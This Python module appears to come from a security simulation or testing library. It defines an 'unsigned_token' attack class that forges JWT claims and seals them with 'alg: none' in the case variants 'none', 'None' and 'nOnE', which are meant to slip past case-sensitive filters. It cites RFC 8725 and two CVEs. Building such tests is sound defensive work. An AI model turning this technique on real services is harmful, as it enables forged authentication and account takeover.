"""Unsigned token: the header declares that there is no signature (``alg: none``)."""

from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack
from simlib.attacks.forged_claims import forge_claims
from simlib.scenario.effects import Context, Flow
from simlib.tokens.forging import forge_unsigned

SPELLINGS = ("none", "None", "nOnE")


class UnsignedToken(TokenAttack):
    """Uses ``alg: none`` also in spellings that case-sensitive filters miss."""

    name: ClassVar[str] = "unsigned_token"
    summary: ClassVar[str] = "forged claims with alg none and no signature"
    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.2; CVE-2015-9235, CVE-2022-23540"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        return tuple(
            Candidate(f"alg {word}", forged.seal(forge_unsigned(forged.claims, forged.kid, word, forged.typ)))
            for word in SPELLINGS
        )
